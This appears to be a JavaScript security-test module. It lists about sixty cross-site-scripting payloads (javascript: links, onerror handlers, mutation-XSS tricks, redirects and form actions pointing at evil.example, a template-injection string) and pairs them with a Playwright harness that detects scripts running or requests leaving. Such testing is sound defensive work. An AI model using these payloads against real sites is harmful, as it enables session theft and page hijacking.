// Hostile markup, and a browser's page that notices when any of it does something.

import { execFileSync } from "node:child_process";

import { world } from "./world.mjs";

/// What others collected (PyPI brs-kb): distinct payloads.
export const collected = () => JSON.parse(execFileSync(process.env.BROWSER_PYTHON, [
  new URL("../python/corpus.py", import.meta.url).pathname,
], { maxBuffer: 64 * 1024 * 1024, encoding: "utf8" }));

/// Cases of ours: what Markdown, this page and this sanitiser make possible.
export const OURS = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](<javascript:alert(1)>)",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](x\"onerror=\"alert(1))",
  "![x\"onerror=\"alert(1)](y)",
  "[x](https://example.org/\"onmouseover=\"alert(1))",
  "[x](https://example.org 'y\" onfocus=\"alert(1)\" autofocus=\"')",
  "```\"onload=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
  "```html\n</pre><img src=x onerror=alert(1)>\n```",
  "`</code><img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "> <img src=x onerror=alert(1)>",
  "Footnote[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "<a href=\"&#106;avascript:alert(1)\">x</a>",
  "<a href=\" javascript:alert(1)\">x</a>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
  "<template><img src=x onerror=alert(1)></template>",
  "<template shadowrootmode=open><script>alert(1)</script></template>",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "</article></section></main><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<base href=\"https://evil.example/\">",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>*{background:url(https://evil.example/x)}</style>",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
  "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
  "<button form=react formaction=javascript:alert(1)>x</button>",
  "<div id=content name=content></div><a id=reply-words data-sending=x></a><form id=react action=//evil.example>",
  "[gallery ids=\"1\" onload=\"alert(1)\"]",
  "[caption]<img src=x onerror=alert(1)>[/caption]",
  "[embed]javascript:alert(1)[/embed]",
  "{{constructor.constructor('alert(1)')()}}",
  "\"><script>alert(1)</script>",
  "' autofocus onfocus=alert(1) x='",
  "javascript:alert(1)",
  "https://example.org/\"><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "]]></description><script>alert(1)</script>",
  "\u2028<script>alert(1)</script>",
  "\uFEFF<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<a\u0000 href=javascript:alert(1)>x</a>",
];

/// Hosts that a picture may come from count as pictures only, never as scripts, styles or frames.
const HARMLESS = new Set(["image"]);

/// A browser's page that counts what hostile markup does: `scripts` that ran, requests that `left` for
/// other hosts, pages that were `turned` away. `policy` says whether the pages' own Content-Security-Policy
/// holds, or the markup has to be harmless by itself.
export async function watchtower(browser, { policy }) {
  const context = await browser.newContext({ baseURL: world.address, bypassCSP: !policy, serviceWorkers: "block" });
  const page = await context.newPage();
  const seen = { scripts: [], left: [], pictures: 0, turned: [], violations: [] };
  let expected = null;
  await page.exposeBinding("__ran", (_, what) => { seen.scripts.push(what); });
  await page.exposeBinding("__stopped", (_, what) => { seen.violations.push(what); });
  await page.addInitScript(() => {
    const tell = (what) => globalThis.__ran(`${what} at ${location.pathname}`);
    for (const name of ["alert", "confirm", "prompt", "print"]) {
      globalThis[name] = () => tell(name);
    }
    for (const [owner, name] of [[document, "write"], [document, "writeln"], [globalThis, "open"]]) {
      const before = owner[name];
      owner[name] = (...words) => { tell(name); return before.apply(owner, words); };
    }
    document.addEventListener("securitypolicyviolation", (event) => {
      globalThis.__stopped(`${event.violatedDirective}: ${event.blockedURI} at ${location.pathname}`);
    });
  });
  page.on("dialog", (dialog) => { seen.scripts.push(`dialog ${dialog.message()}`); dialog.dismiss(); });
  page.on("popup", (popup) => { seen.turned.push(`popup ${popup.url()}`); popup.close(); });
  await context.route((url) => url.origin !== world.address, (route) => {
    const request = route.request();
    if (HARMLESS.has(request.resourceType())) seen.pictures += 1;
    else seen.left.push(`${request.resourceType()} ${request.url()}`);
    return route.abort();
  });
  page.on("framenavigated", (frame) => {
    if (frame !== page.mainFrame()) seen.turned.push(`frame ${frame.url()}`);
    else if (expected && !frame.url().startsWith(expected)) seen.turned.push(`${expected} became ${frame.url()}`);
  });
  return {
    page,
    seen,
    /// Goes to a page of ours, waits until it is loaded, and looks it over.
    async look(path) {
      expected = `${world.address}${path}`;
      await page.goto(path, { waitUntil: "load" });
      await provoke(page);
      seen.scripts.push(...(await suspicious(page)).map((what) => `${what} on ${path}`));
      expected = null;
    },
    /// Shows fragments in a page without any policy, once parsed with the page and once put in later.
    async show(fragments) {
      expected = `${world.address}/robots.txt`;
      const body = fragments.map((html) => `<div class="prose">${html}</div>`).join("\n");
      await page.evaluate((html) => {
        document.open();
        document.close();
        document.body.innerHTML = html;
      }, "");
      await page.setContent(`<!doctype html><html><body>${body}</body></html>`, { waitUntil: "load" });
      await provoke(page);
      seen.scripts.push(...await suspicious(page, ".prose"));
      await page.evaluate((parts) => {
        for (const html of parts) document.body.appendChild(document.createElement("div")).innerHTML = html;
      }, fragments);
      await provoke(page);
      seen.scripts.push(...await suspicious(page, "div"));
      expected = null;
    },
    close: () => context.close(),
  };
}

/// Does to every element of people's texts what a reader might.
async function provoke(page) {
  await page.evaluate(async () => {
    for (const element of document.querySelectorAll(".prose *, .name, .name *, .summary *")) {
      for (const kind of ["mouseover", "mouseenter", "focus", "focusin", "pointerover", "toggle", "animationstart", "transitionend", "error", "load"]) {
        element.dispatchEvent(new Event(kind, { bubbles: false }));
      }
    }
    await new Promise((done) => { requestAnimationFrame(() => setTimeout(done, 30)); });
  });
}

/// What would run if somebody touched it: handlers, scripts, and addresses that are code.
function suspicious(page, within = "body") {
  return page.evaluate((scope) => {
    const found = [];
    // The browser's own parser decides: it skips tabs and line ends in a scheme, and no spaces.
    const isCode = (address) => {
      const url = URL.parse(address, location.origin);
      return url !== null && ["javascript:", "vbscript:", "data:"].includes(url.protocol);
    };
    const forbidden = "iframe, frame, object, embed, applet, base, portal, template, svg script, math";
    for (const root of document.querySelectorAll(scope)) {
      for (const element of root.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          if (/^on/i.test(name)) found.push(`${name}=${value}`);
          if (name === "srcdoc") found.push("srcdoc");
          const fetched = ["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "ping"].includes(name);
          const picture = element.matches("img") && /^data:image\//i.test(value);
          if (fetched && isCode(value) && !picture) found.push(`${name}=${value.slice(0, 80)}`);
        }
      }
      for (const element of root.querySelectorAll(forbidden)) found.push(`<${element.localName}>`);
      for (const element of root.querySelectorAll(".prose script, .prose style, .prose link, .prose meta, .prose form, .prose input")) {
        if (!element.matches(".prose input[type=checkbox][disabled]")) found.push(`<${element.localName}> in a text`);
      }
      for (const script of root.querySelectorAll("script")) {
        if (!script.src.startsWith(`${location.origin}/assets/`) && script.type !== "application/ld+json") found.push("a script of somebody else");
      }
    }
    return found;
  }, within);
}
